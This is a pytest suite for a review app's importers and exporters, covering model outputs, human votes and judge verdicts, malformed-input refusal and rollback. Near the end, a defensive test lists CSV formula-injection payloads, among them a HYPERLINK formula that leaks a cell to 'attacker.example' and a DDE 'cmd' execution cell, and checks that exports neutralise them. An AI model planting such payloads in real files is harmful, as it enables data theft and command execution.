import json

import pytest

from review_app.errors import Conflict, InputError, NotFound, OutcomesHidden
from review_app.services import data as data_service
from review_app.services import studies
from tests.acting import acting, person
from tests.conftest import write

pytestmark = pytest.mark.both_backends

OUTPUTS_CSV = (
    "item_id,prompt,system,output,category,reference,source\n"
    "q1,What is 2+2?,base,It is 4.,math,4,handwritten\n"
    'q1,What is 2+2?,finetuned,"4\n\n(two plus two)",math,4,handwritten\n'
    "q2,Say hi,base,hi there,chat,,handwritten\n"
    "q2,Say hi,finetuned,,chat,,handwritten\n"
)


def jsonl(*rows) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)


def output_row(**overrides):
    row = {"item_id": "q1", "prompt": "What is 2+2?", "system": "base", "output": "4"}
    return row | overrides


@pytest.fixture
def seeded(store, tmp_path):
    data_service.import_outputs(
        store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e", actor=person(store)
    )
    studies.create_study(
        store, "s", "e", [("finetuned", "base")], reviews_per_pair=2, actor=person(store)
    )
    return store


def test_outputs_csv_with_multiline_quotes_empty_output_and_metadata(store, tmp_path):
    summary = data_service.import_outputs(
        store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e", actor=person(store)
    )
    assert summary.added == {"items added": 2, "outputs added": 4}
    pairs = studies.create_study(store, "s", "e", [("finetuned", "base")], actor=person(store))
    assert pairs.pairs_added == 2
    frame = store.frames.pairs_frame(store.studies.require_study("s")["id"])
    q1 = frame[frame.item_key == "q1"].iloc[0]
    assert (q1.system_x, q1.system_y) == ("base", "finetuned")
    assert q1.output_y == "4\n\n(two plus two)" and q1.category == "math" and q1.reference == "4"
    assert frame[frame.item_key == "q2"].iloc[0].output_y == ""
    meta = store.db.execute("SELECT metadata FROM items WHERE item_key='q1'").fetchone()[0]
    assert json.loads(meta) == {"source": "handwritten"}


def test_reimport_is_a_no_op(store, tmp_path):
    path = write(tmp_path / "o.csv", OUTPUTS_CSV)
    data_service.import_outputs(store, path, "e", actor=person(store))
    before = store.table_counts()
    summary = data_service.import_outputs(store, path, "e", actor=person(store))
    assert summary.added == {} and summary.unchanged == 4
    # Nothing changes but the audit log, which records that the file was imported again.
    after = store.table_counts()
    assert after.pop("audit_log") == before.pop("audit_log") + 1
    assert after == before


def test_changed_output_is_refused_unless_replace(store, tmp_path):
    data_service.import_outputs(
        store, write(tmp_path / "a.jsonl", jsonl(output_row())), "e", actor=person(store)
    )
    changed = write(tmp_path / "b.jsonl", jsonl(output_row(output="five")))
    with pytest.raises(Conflict, match=r"b.jsonl:1: item 'q1' already has a different output"):
        data_service.import_outputs(store, changed, "e", actor=person(store))
    summary = data_service.import_outputs(store, changed, "e", replace=True, actor=person(store))
    assert summary.added == {"outputs replaced": 1}
    assert store.db.execute("SELECT text FROM outputs").fetchone()[0] == "five"


def test_frozen_eval_set_refuses_changes_even_with_replace(seeded, tmp_path):
    row = output_row(output="changed", category="math", reference="4")
    with pytest.raises(Conflict, match="frozen by study s"):
        data_service.import_outputs(
            seeded, write(tmp_path / "c.jsonl", jsonl(row)), "e", replace=True, actor=person(seeded)
        )
    new_item = output_row(item_id="q9")
    with pytest.raises(Conflict, match="item 'q9' would be added"):
        data_service.import_outputs(
            seeded, write(tmp_path / "d.jsonl", jsonl(new_item)), "e", actor=person(seeded)
        )


def test_a_new_system_can_join_a_frozen_eval_set(seeded, tmp_path):
    rows = jsonl(
        output_row(system="v2", category="math", reference="4"),
        {
            "item_id": "q2",
            "prompt": "Say hi",
            "system": "v2",
            "output": "hello",
            "category": "chat",
        },
    )
    summary = data_service.import_outputs(
        seeded, write(tmp_path / "v2.jsonl", rows), "e", actor=person(seeded)
    )
    assert summary.added == {"outputs added": 2}


def test_alpaca_eval_model_outputs(store, tmp_path):
    data = [
        {
            "instruction": "Name a colour.",
            "output": "Blue.",
            "generator": "ft",
            "dataset": "vicuna",
        },
        {
            "instruction": "Name a colour.",
            "output": "Red!",
            "generator": "base",
            "dataset": "vicuna",
        },
    ]
    path = write(tmp_path / "model_outputs.json", json.dumps(data))
    assert data_service.import_outputs(store, path, "alpaca", actor=person(store)).added == {
        "items added": 1,
        "outputs added": 2,
    }
    key, category = store.db.execute("SELECT item_key, category FROM items").fetchone()
    assert key.startswith("alpaca-") and category == "vicuna"


def test_bom_and_crlf_are_accepted(store, tmp_path):
    text = OUTPUTS_CSV.replace("\n\n(two plus two)", " (two plus two)").replace("\n", "\r\n")
    path = write(tmp_path / "o.csv", b"\xef\xbb\xbf" + text.encode())
    data_service.import_outputs(store, path, "e", actor=person(store))
    assert store.db.execute("SELECT count(*) FROM outputs").fetchone()[0] == 4
    assert (
        store.db.execute("SELECT text FROM outputs WHERE system='base' AND item_id=1").fetchone()[0]
        == "It is 4."
    )


def test_a_5_mb_output_round_trips(store, tmp_path):
    big = "long answer. " * 400_000
    data_service.import_outputs(
        store, write(tmp_path / "o.jsonl", jsonl(output_row(output=big))), "e", actor=person(store)
    )
    assert store.db.execute("SELECT length(text) FROM outputs").fetchone()[0] == len(big)


def test_unicode_and_emoji_survive(store, tmp_path):
    row = output_row(prompt="ライトが点きません 💡", output="再起動してください 🙏 Ελληνικά")
    data_service.import_outputs(
        store, write(tmp_path / "o.jsonl", jsonl(row)), "e", actor=person(store)
    )
    assert store.db.execute("SELECT text FROM outputs").fetchone()[0] == row["output"]


MALFORMED_OUTPUTS = [
    ("empty.csv", b"", r"empty.csv: the file is empty"),
    ("empty.jsonl", b"\n\n", r"empty.jsonl: the file is empty"),
    ("badline.jsonl", b'{"item_id": "q1"\n', r"badline.jsonl:1: invalid JSON"),
    (
        "second.jsonl",
        (jsonl(output_row()) + "{not json}\n").encode(),
        r"second.jsonl:2: invalid JSON",
    ),
    ("array.jsonl", b"[1, 2]\n", r"array.jsonl:1: expected a JSON object, got a list"),
    (
        "missing.csv",
        b"item_id,prompt,output\nq1,p,o\n",
        r"missing.csv:2: field 'system': required column is missing",
    ),
    (
        "emptyprompt.csv",
        b"item_id,prompt,system,output\nq1, ,base,o\n",
        r"emptyprompt.csv:2: field 'prompt': is empty",
    ),
    (
        "emptyid.jsonl",
        jsonl(output_row(item_id="")).encode(),
        r"emptyid.jsonl:1: field 'item_id': is empty",
    ),
    (
        "bool.jsonl",
        jsonl(output_row(output=True)).encode(),
        r"bool.jsonl:1: field 'output': expected text, got a boolean true",
    ),
    (
        "number.jsonl",
        jsonl(output_row(system=3)).encode(),
        r"number.jsonl:1: field 'system': expected text, got a number 3",
    ),
    (
        "null.jsonl",
        jsonl(output_row(prompt=None)).encode(),
        r"null.jsonl:1: field 'prompt': is missing",
    ),
    (
        "dup.jsonl",
        jsonl(output_row(), output_row(output="5")).encode(),
        r"dup.jsonl:2: item 'q1' system 'base' appears again with a different output "
        r"\(first on line 1\)",
    ),
    (
        "prompt.jsonl",
        jsonl(output_row(), output_row(system="ft", prompt="Other?")).encode(),
        r"prompt.jsonl:2: item 'q1' has a different prompt, reference or category than on line 1",
    ),
    ("nul.csv", b"item_id,prompt,system,output\nq1,p,base,o\x00k\n", r"nul.csv:2: contains a NUL"),
    (
        "latin1.csv",
        "item_id,prompt,system,output\nq1,café,base,o\n".encode("latin-1"),
        r"latin1.csv:2: is not valid UTF-8",
    ),
    (
        "quotes.csv",
        b'item_id,prompt,system,output\nq1,p,base,"never closed\nq2,p,base,o\n',
        r"quotes.csv:\d+: malformed CSV",
    ),
    (
        "fields.csv",
        b"item_id,prompt,system,output\nq1,p,base,o,extra\n",
        r"fields.csv:2: has 5 fields but the header has 4",
    ),
    (
        "header.csv",
        b"item_id,prompt,system,output,output\nq1,p,base,o,o\n",
        r"header.csv:1: field 'output': column appears twice",
    ),
    (
        "reserved.jsonl",
        jsonl(output_row(system="tie")).encode(),
        r"reserved.jsonl:1: field 'system': 'tie' is reserved",
    ),
    # Each of what makes a JSONL line worth looking into, alone on its line: an object nested
    # in objects only, the escape of NUL, a lone surrogate after a harmless escape.
    (
        "deep.jsonl",
        (
            json.dumps(output_row())[:-1] + ', "m": ' + '{"a": ' * 101 + "1" + "}" * 102 + "\n"
        ).encode(),
        r"deep.jsonl:1: field 'm': is nested more than 100 levels deep",
    ),
    (
        "nul.jsonl",
        (json.dumps(output_row(output="o\x00k")) + "\n").encode(),
        r"nul.jsonl:1: field 'output': holds a NUL character",
    ),
    (
        "surrogate.jsonl",
        (json.dumps(output_row(prompt="caf\u00e9 \ud800")) + "\n").encode(),
        r"surrogate.jsonl:1: field 'prompt': holds a lone surrogate",
    ),
    ("outputs.txt", b"item_id\n", r"outputs.txt: unknown file type '.txt'"),
    ("obj.json", b'{"a": 1}', r"obj.json: expected a JSON array of objects, got an object"),
    (
        "alpaca.json",
        json.dumps([{"instruction": "x", "output": "y"}]).encode(),
        r"alpaca.json: row 1: field 'generator': required column is missing",
    ),
]


@pytest.mark.parametrize(("name", "content", "message"), MALFORMED_OUTPUTS)
def test_malformed_outputs_are_refused_and_change_nothing(seeded, tmp_path, name, content, message):
    before = seeded.table_counts()
    with pytest.raises(InputError, match=message):
        data_service.import_outputs(
            seeded, write(tmp_path / name, content), "other", actor=person(seeded)
        )
    assert seeded.table_counts() == before


def test_a_bad_row_after_a_full_batch_rolls_back_the_earlier_batches(store, tmp_path):
    rows = [output_row(item_id=f"q{i}") for i in range(12_000)] + [output_row(item_id="")]
    importer = person(store)
    before = store.table_counts()
    with pytest.raises(InputError, match=r"big.jsonl:12001: field 'item_id': is empty"):
        data_service.import_outputs(
            store, write(tmp_path / "big.jsonl", jsonl(*rows)), "e", actor=importer
        )
    assert store.table_counts() == before


VOTES_HEADER = "item_id,system_a,system_b,reviewer,winner,shown_left,rationale,created_at\n"


def test_votes_import_creates_reviewers_and_is_idempotent(seeded, tmp_path):
    path = write(
        tmp_path / "v.csv",
        VOTES_HEADER
        + "q1,finetuned,base,ann,finetuned,base,clear,2026-01-02T10:00:00Z\n"
        + "q1,finetuned,base,bob,tie,,,\n"
        + "q2,base,finetuned,ann,both_bad,finetuned,,\n",
    )
    assert data_service.import_votes(seeded, path, "s", actor=person(seeded)).added == {
        "votes added": 3
    }
    assert data_service.import_votes(seeded, path, "s", actor=person(seeded)).unchanged == 3
    frame = seeded.frames.votes_frame(seeded.studies.require_study("s")["id"]).sort_values(
        "vote_id"
    )
    assert frame.outcome.tolist() == ["y", "tie", "both_bad"]
    assert frame.shown_left.tolist() == ["base", None, "finetuned"]
    assert seeded.people.reviewer("ann")["token_hash"] is None


def test_a_changed_vote_supersedes_the_earlier_one(seeded, tmp_path):
    data_service.import_votes(
        seeded,
        write(tmp_path / "a.csv", VOTES_HEADER + "q1,finetuned,base,ann,base,,,\n"),
        "s",
        actor=person(seeded),
    )
    data_service.import_votes(
        seeded,
        write(tmp_path / "b.csv", VOTES_HEADER + "q1,finetuned,base,ann,tie,,,\n"),
        "s",
        actor=person(seeded),
    )
    history = seeded.review.vote_history(seeded.studies.require_study("s")["id"])
    assert [v["winner"] for v in history] == ["base", "tie"]
    assert history[1]["supersedes"] == history[0]["id"]
    assert seeded.frames.votes_frame(seeded.studies.require_study("s")["id"]).winner.tolist() == [
        "tie"
    ]


def test_votes_import_creates_the_study_and_pairs_it_needs(store, tmp_path):
    data_service.import_outputs(
        store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e", actor=person(store)
    )
    path = write(tmp_path / "v.csv", VOTES_HEADER + "q2,finetuned,base,ann,finetuned,,,\n")
    with pytest.raises(NotFound, match="name an eval set to create it over"):
        data_service.import_votes(store, path, "new", actor=person(store))
    data_service.import_votes(store, path, "new", eval_set="e", actor=person(store))
    study = store.studies.require_study("new")
    assert store.studies.comparisons(study["id"]) == [("finetuned", "base")]
    assert len(store.frames.pairs_frame(study["id"])) == 1


MALFORMED_VOTES = [
    ("q7,finetuned,base,ann,base,,,", r"v.csv:2: field 'item_id': unknown item 'q7'"),
    ("q1,finetuned,gpt,ann,base,,,", r"v.csv:2: field 'system_b': system 'gpt' has no output"),
    ("q1,finetuned,base,ann,frontier,,,", r"v.csv:2: field 'winner': 'frontier' is not one of"),
    ("q1,finetuned,base,ann,,,,", r"v.csv:2: field 'winner': is empty"),
    ("q1,finetuned,base,,base,,,", r"v.csv:2: field 'reviewer': is empty"),
    ("q1,finetuned,finetuned,ann,tie,,,", r"v.csv:2: field 'system_b': compares 'finetuned'"),
    ("q1,finetuned,base,ann,base,left,,", r"v.csv:2: field 'shown_left': 'left' is neither"),
    ("q1,finetuned,base,ann,base,,,yesterday", r"v.csv:2: field 'created_at': 'yesterday' is not"),
    (
        "q1,finetuned,base,ann,base,,,\nq1,base,finetuned,ann,tie,,,",
        r"v.csv:3: field 'reviewer': 'ann' already voted on this pair on line 2",
    ),
]


@pytest.mark.parametrize(("rows", "message"), MALFORMED_VOTES)
def test_malformed_votes_are_refused_and_change_nothing(seeded, tmp_path, rows, message):
    before = seeded.table_counts()
    with pytest.raises(InputError, match=message):
        data_service.import_votes(
            seeded, write(tmp_path / "v.csv", VOTES_HEADER + rows + "\n"), "s", actor=person(seeded)
        )
    assert seeded.table_counts() == before


def test_votes_carry_criterion_ratings(seeded, tmp_path):
    header = VOTES_HEADER.replace("created_at\n", "created_at,criteria\n")
    ratings = '"{""accuracy"": {""finetuned"": 5, ""base"": 2}}"'
    path = write(tmp_path / "v.csv", header + f"q1,finetuned,base,ann,finetuned,,,,{ratings}\n")
    assert data_service.import_votes(seeded, path, "s", actor=person(seeded)).added == {
        "votes added": 1
    }
    study = seeded.studies.require_study("s")
    (row,) = seeded.frames.criteria_frame(study["id"]).to_dict("records")
    assert json.loads(row["criteria"]) == {"accuracy": {"base": 2, "finetuned": 5}}
    assert data_service.import_votes(seeded, path, "s", actor=person(seeded)).unchanged == 1
    # Changed ratings alone make a changed vote.
    changed = '"{""accuracy"": {""finetuned"": 4}}"'
    path = write(tmp_path / "w.csv", header + f"q1,finetuned,base,ann,finetuned,,,,{changed}\n")
    assert data_service.import_votes(seeded, path, "s", actor=person(seeded)).added == {
        "votes added": 1
    }


MALFORMED_CRITERIA = [
    ("not json", r"v.jsonl:1: field 'criteria': is not JSON"),
    ("[1, 2]", r"v.jsonl:1: field 'criteria': expected an object"),
    ('{"accuracy": 4}', r"field 'criteria': criterion 'accuracy': expected \{system: score\}"),
    ('{"accuracy": {"gpt": 4}}', r"criterion 'accuracy': 'gpt' is neither 'finetuned' nor"),
    ('{"accuracy": {"base": 6}}', r"criterion 'accuracy': base score 6 is not 1-5"),
    ('{"accuracy": {"base": true}}', r"criterion 'accuracy': base score True is not 1-5"),
    ('{"accuracy": {"base": 2.5}}', r"criterion 'accuracy': base score 2.5 is not 1-5"),
]


@pytest.mark.parametrize(("criteria", "message"), MALFORMED_CRITERIA)
def test_malformed_criterion_ratings_are_refused(seeded, tmp_path, criteria, message):
    row = {
        "item_id": "q1",
        "system_a": "finetuned",
        "system_b": "base",
        "reviewer": "ann",
        "winner": "base",
        "criteria": criteria,
    }
    before = seeded.table_counts()
    with pytest.raises(InputError, match=message):
        data_service.import_votes(
            seeded, write(tmp_path / "v.jsonl", jsonl(row)), "s", actor=person(seeded)
        )
    assert seeded.table_counts() == before


def test_ratings_of_a_criterion_the_study_does_not_rate_are_refused(store, tmp_path):
    data_service.import_outputs(
        store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e", actor=person(store)
    )
    studies.create_study(
        store, "c", "e", [("finetuned", "base")], criteria=["tone"], actor=person(store, "ann")
    )
    row = {
        "item_id": "q1",
        "system_a": "finetuned",
        "system_b": "base",
        "reviewer": "ann",
        "winner": "base",
        "criteria": {"accuracy": {"base": 3}},
    }
    with pytest.raises(
        InputError, match=r"criterion 'accuracy' is not rated in this study \(tone\)"
    ):
        data_service.import_votes(
            store, write(tmp_path / "v.jsonl", jsonl(row)), "c", actor=person(store)
        )


VERDICTS_HEADER = "item_id,system_a,system_b,judge,winner,first,explanation\n"


def test_verdicts_import_orders_combined_and_unparsed(seeded, tmp_path):
    path = write(
        tmp_path / "j.csv",
        VERDICTS_HEADER
        + "q1,finetuned,base,gpt-judge,finetuned,finetuned,A is right\n"
        + "q1,finetuned,base,gpt-judge,base,base,\n"
        + "q2,finetuned,base,gpt-judge,,base,garbled\n"
        + "q2,finetuned,base,other-judge,tie,,\n",
    )
    assert data_service.import_verdicts(seeded, path, "s", actor=person(seeded)).added == {
        "verdicts added": 4
    }
    assert data_service.import_verdicts(seeded, path, "s", actor=person(seeded)).unchanged == 4
    frame = seeded.frames.verdicts_frame(seeded.studies.require_study("s")["id"])
    assert frame.judge.tolist() == ["gpt-judge", "gpt-judge", "gpt-judge", "other-judge"]
    assert frame.first.tolist() == ["y", "x", "x", None]
    assert frame.outcome.tolist() == ["y", "x", None, "tie"]
    assert frame.parse_error.tolist()[2] == "imported without a winner"


def test_verdicts_with_a_changed_winner_are_refused(seeded, tmp_path):
    write(tmp_path / "a.csv", VERDICTS_HEADER + "q1,finetuned,base,j,base,,\n")
    data_service.import_verdicts(seeded, tmp_path / "a.csv", "s", actor=person(seeded))
    before = seeded.table_counts()
    write(tmp_path / "b.csv", VERDICTS_HEADER + "q1,finetuned,base,j,tie,,\n")
    with pytest.raises(Conflict, match=r"b.csv:2: 'j' already has a different verdict"):
        data_service.import_verdicts(seeded, tmp_path / "b.csv", "s", actor=person(seeded))
    assert seeded.table_counts() == before


MALFORMED_VERDICTS = [
    ("q1,finetuned,base,j,both_bad,,", r"field 'winner': 'both_bad' is not one of"),
    ("q1,finetuned,base,j,base,gpt,", r"field 'first': 'gpt' is neither"),
    ("q1,finetuned,base,,base,,", r"field 'judge': is empty"),
    (
        "q1,finetuned,base,j,base,,\nq1,base,finetuned,j,tie,,",
        r"j.csv:3: field 'judge': 'j' already",
    ),
]


@pytest.mark.parametrize(("rows", "message"), MALFORMED_VERDICTS)
def test_malformed_verdicts_are_refused_and_change_nothing(seeded, tmp_path, rows, message):
    before = seeded.table_counts()
    with pytest.raises(InputError, match=message):
        data_service.import_verdicts(
            seeded,
            write(tmp_path / "j.csv", VERDICTS_HEADER + rows + "\n"),
            "s",
            actor=person(seeded),
        )
    assert seeded.table_counts() == before


def test_exports_round_trip_through_the_importers(seeded, tmp_path):
    ratings = '"{""tone"": {""base"": 2, ""finetuned"": 5}}"'
    header = VOTES_HEADER.replace("created_at\n", "created_at,criteria\n")
    write(tmp_path / "v.csv", header + f'q1,finetuned,base,ann,finetuned,base,"a, b",,{ratings}\n')
    data_service.import_votes(seeded, tmp_path / "v.csv", "s", actor=person(seeded))
    write(tmp_path / "j.csv", VERDICTS_HEADER + "q2,finetuned,base,j,tie,base,why\n")
    data_service.import_verdicts(seeded, tmp_path / "j.csv", "s", actor=person(seeded))
    from review_app.importers import export_rows
    from review_app.services import thresholds

    # Which system won is an outcome: votes and verdicts export only after the lock.
    with pytest.raises(OutcomesHidden):
        data_service.export_rows(seeded, "votes", "s")
    thresholds.add_threshold(
        acting(seeded, "s", "a"),
        "human_win_rate",
        {"system_a": "finetuned", "system_b": "base"},
        ">",
        0.5,
    )
    thresholds.lock_thresholds(acting(seeded, "s", "a"), "a small test study")

    for what in ("votes", "verdicts"):
        for fmt in ("csv", "jsonl"):
            out = tmp_path / f"{what}.{fmt}"
            with out.open("w", encoding="utf-8", newline="") as handle:
                rows = data_service.export_rows(seeded, what, "s")
                assert export_rows(rows, fmt, handle, data_service.EXPORT_COLUMNS[what]) == 1
            importer = (
                data_service.import_votes if what == "votes" else data_service.import_verdicts
            )
            # Importing what is already there changes nothing, so it needs no reason after the lock.
            summary = importer(seeded, out, "s", actor=person(seeded))
            assert summary.added == {} and summary.unchanged == 1, (what, fmt)


# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), and text that only looks
# like the quote an export adds.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tindented=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
    "it's fine = 2",
]


def test_csv_exports_neutralise_formulas_and_round_trip(seeded, tmp_path):
    import csv

    from review_app.importers import FORMULA_STARTS, export_rows

    votes = [
        {"item_id": key, "system_a": "finetuned", "system_b": "base", "reviewer": reviewer}
        | {"winner": "base", "rationale": rationale}
        for key in ("q1", "q2")
        for reviewer, rationale in zip(("=cmd|' /C calc'!A0", "ann"), FORMULAS, strict=False)
    ]
    verdicts = [
        {"item_id": "q1", "system_a": "finetuned", "system_b": "base", "judge": f"j{i}"}
        | {"winner": "tie", "first": "", "explanation": text}
        for i, text in enumerate(FORMULAS)
    ]
    data_service.import_votes(
        seeded, write(tmp_path / "v.jsonl", jsonl(*votes)), "s", actor=person(seeded)
    )
    data_service.import_verdicts(
        seeded, write(tmp_path / "j.jsonl", jsonl(*verdicts)), "s", actor=person(seeded)
    )
    from review_app.services import thresholds

    thresholds.add_threshold(
        acting(seeded, "s", "a"),
        "human_win_rate",
        {"system_a": "finetuned", "system_b": "base"},
        ">",
        0.5,
    )
    thresholds.lock_thresholds(
        acting(seeded, "s", "a"), "a small test study"
    )  # votes and verdicts export after the lock
    for what in ("votes", "verdicts"):
        columns = data_service.EXPORT_COLUMNS[what]
        out = tmp_path / f"{what}.csv"
        with out.open("w", encoding="utf-8", newline="") as handle:
            export_rows(data_service.export_rows(seeded, what, "s"), "csv", handle, columns)
        cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], what
        assert '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")' in cells
        assert "'=cmd|' /C calc'!A0" in cells
        # The quote an export adds comes off on import: the export imports back unchanged.
        importer = data_service.import_votes if what == "votes" else data_service.import_verdicts
        summary = importer(seeded, out, "s", actor=person(seeded))
        assert summary.added == {} and summary.unchanged == summary.rows > 0, what
    # JSONL exports stay exact.
    out = tmp_path / "verdicts.jsonl"
    with out.open("w", encoding="utf-8") as handle:
        export_rows(data_service.export_rows(seeded, "verdicts", "s"), "jsonl", handle, [])
    exported = [json.loads(line)["explanation"] for line in out.read_text().splitlines()]
    assert sorted(exported) == sorted(FORMULAS)


def test_a_csv_field_of_a_megabyte_imports(store, tmp_path):
    big = "x" * 1_000_000
    text = "item_id,prompt,system,output\n" + f'q1,p,base,"{big}"\n'
    data_service.import_outputs(store, write(tmp_path / "o.csv", text), "e", actor=person(store))
    assert store.db.execute("SELECT length(text) FROM outputs").fetchone()[0] == len(big)


def test_a_failed_import_does_not_leave_the_study_it_would_have_created(store, tmp_path):
    data_service.import_outputs(
        store, write(tmp_path / "o.csv", OUTPUTS_CSV), "e", actor=person(store)
    )
    before = store.table_counts()
    bad = write(tmp_path / "v.csv", VOTES_HEADER + "q2,finetuned,base,ann,nobody,,,\n")
    with pytest.raises(InputError, match="'nobody' is not one of"):
        data_service.import_votes(store, bad, "new", eval_set="e", actor=person(store))
    assert store.studies.study("new") is None and store.table_counts() == before
